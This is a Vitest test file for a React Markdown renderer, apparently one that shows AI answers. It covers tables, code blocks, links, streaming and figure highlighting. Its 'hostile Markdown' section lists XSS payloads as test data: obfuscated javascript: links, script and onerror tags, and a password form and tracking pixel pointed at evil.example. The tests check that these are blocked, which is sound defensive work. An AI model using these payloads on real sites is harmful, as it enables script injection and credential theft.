// @vitest-environment happy-dom
import { act } from 'react'
import { createRoot, type Root } from 'react-dom/client'
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest'
import { Markdown } from './markdown.tsx'
import { MARKDOWN_ELEMENTS } from './markdown-elements.tsx'

let root: Root
let page: HTMLElement

beforeEach(() => {
  vi.stubGlobal('IS_REACT_ACT_ENVIRONMENT', true)
  page = document.body.appendChild(document.createElement('div'))
  root = createRoot(page)
})

afterEach(() => {
  act(() => root.unmount())
  page.remove()
  vi.restoreAllMocks()
})

function show(text: string, isGrowing = false): HTMLElement {
  act(() => root.render(<Markdown text={text} isGrowing={isGrowing} />))
  return page
}

test('a figure no result contains is underlined where Markdown put it, said so, and reached by keyboard', () => {
  const text = 'Sessions: **1,234** of 99.\n\n| a |\n|-|\n| 1,234 |\n\n\\*7\\* of `42`'
  const figures = [text.indexOf('1,234'), text.lastIndexOf('1,234')].map((start) => ({ start, length: 5 }))
  const more = ['7', '42'].map((words) => ({ start: text.lastIndexOf(words), length: words.length }))
  act(() => root.render(<Markdown text={text} figures={[...figures, ...more]} />))
  const marked = [...page.querySelectorAll<HTMLButtonElement>('button[aria-describedby]')]
  expect(marked.map((each) => each.textContent)).toEqual(['1,234', '1,234', '7', '42'])
  expect(page.querySelector('strong button')).not.toBeNull()
  expect(page.querySelector('td button')).not.toBeNull()
  expect(page.textContent).toContain('of 99.')
  const described = marked[0]?.getAttribute('aria-describedby') ?? ''
  expect(document.getElementById(described)?.textContent).toBe('This number is in no result.')
})

describe('what an answer may show', () => {
  test('GitHub Markdown: tables in a box of their own, code with a copy button, lists', () => {
    show('| a | b |\n|-|-|\n| 1 | 2 |\n\n```ts\nconst a = 1\n```\n\n- [x] done\n- [ ] open')
    expect(page.querySelector('[aria-label="Table"] table')?.textContent).toContain('12')
    expect(page.querySelector('figure code')?.textContent).toBe('const a = 1\n')
    expect(page.querySelector('figure figcaption')?.textContent).toContain('ts')
    expect(page.querySelector('button[aria-label="Copy code"]')).not.toBeNull()
    expect([...page.querySelectorAll('input')].map((box) => box.getAttribute('aria-label'))).toEqual([
      'Done',
      'Not done',
    ])
  })

  test('links open apart and tell nothing', () => {
    const link = show('[here](https://example.com/x)').querySelector('a')
    expect(link?.getAttribute('href')).toBe('https://example.com/x')
    expect(link?.getAttribute('target')).toBe('_blank')
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
  })

  test('headings begin below those of the page', () => {
    show('# One\n\n## Two')
    expect(page.querySelector('h1, h2')).toBeNull()
    expect(page.querySelector('h3')?.textContent).toBe('One')
  })
})

describe('hostile Markdown', () => {
  test.each([
    '[x](javascript:alert(1))',
    '[x](JAVASCRIPT:alert(1))',
    '[x](java&#115;cript:alert(1))',
    '[x](&#x6A;avascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:x)',
    '[x](//evil.example)',
    '[x](/account/delete)',
    '<javascript:alert(1)>',
    '[x]: javascript:alert(1)\n\n[x]',
    '[x](\u0001javascript:alert(1))',
  ])('no link: %s', (text) => {
    expect(show(text).querySelector('a')).toBeNull()
  })

  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<svg onload=alert(1)>',
    '<style>*{display:none}</style>',
    '<form action="https://evil.example"><input name=password></form>',
    '**<b onclick=alert(1)>x</b>**',
    '| <script>x</script> |\n|-|\n| <img src=x> |',
  ])('raw HTML stays text: %s', (text) => {
    show(text)
    expect(page.querySelector('script, img, iframe, svg:not(.lucide), style, form, b, input')).toBeNull()
    expect(page.querySelector('[onclick], [onerror], [onload]')).toBeNull()
    expect(page.textContent).toContain('<')
  })

  test('remote images are never loaded, only linked by their description', () => {
    show('![a chart](https://evil.example/pixel.png?secret=1) ![](https://evil.example/2.png)')
    expect(page.querySelector('img')).toBeNull()
    expect([...page.querySelectorAll('a')].map((link) => link.textContent)).toEqual([
      'Image: a chart',
      'Image: no description',
    ])
  })

  test('an image inside a link, or from a bad address, is words', () => {
    show('![x](javascript:alert(1))')
    expect(page.querySelector('a, img')).toBeNull()
    expect(page.textContent).toBe('Image: x')
  })

  test('deep nesting and unclosed marks neither throw nor hang', () => {
    show(`${'> '.repeat(300)}deep`)
    show('['.repeat(500))
    show('**'.repeat(500))
    show(`${'| a '.repeat(200)}|\n${'|-'.repeat(200)}|`)
    expect(page.textContent).not.toBe('')
  })
})

describe('streaming', () => {
  test('settled blocks are rendered once, however many pieces follow', () => {
    const rendered = new Map<string, number>()
    MARKDOWN_ELEMENTS.strong = ({ children }) => {
      rendered.set(String(children), (rendered.get(String(children)) ?? 0) + 1)
      return <strong>{children}</strong>
    }
    let text = '**First** block.\n\n- **Second**\n\nThird.\n\n**Last** one'
    show(text)
    for (let piece = 0; piece < 200; piece++) {
      text += ` word${piece}`
      show(text)
    }
    delete MARKDOWN_ELEMENTS.strong
    expect(rendered.get('First')).toBe(1)
    expect(rendered.get('Second')).toBe(1)
    expect(rendered.get('Last')).toBe(201)
  })

  test('marks that are open at the end of what is being written are taken for closed', () => {
    expect(show('Give **clicks', true).querySelector('strong')?.textContent).toBe('clicks')
    expect(show('*I am', true).querySelector('em')?.textContent).toBe('I am')
    expect(show('Run `pnpm st', true).querySelector('code')?.textContent).toBe('pnpm st')
    expect(show('See [the rep', true).textContent).toBe('See the rep')
    expect(show('See [the report](https://exa', true).querySelector('a')).toBeNull()
    expect(show('2 * 3 * 4 of snake_case', true).textContent).toBe('2 * 3 * 4 of snake_case')
    expect(show('Cost <', true).textContent).toBe('Cost <')
    expect(show('Give **clicks').textContent).toBe('Give **clicks')
  })

  test('a block that is settled keeps its elements in the page', () => {
    show('| a |\n|-|\n| 1 |\n\nMiddle.\n\nEnd')
    const table = page.querySelector('table')
    show('| a |\n|-|\n| 1 |\n\nMiddle.\n\nEnd of it.\n\nMore.')
    expect(page.querySelector('table')).toBe(table)
  })
})
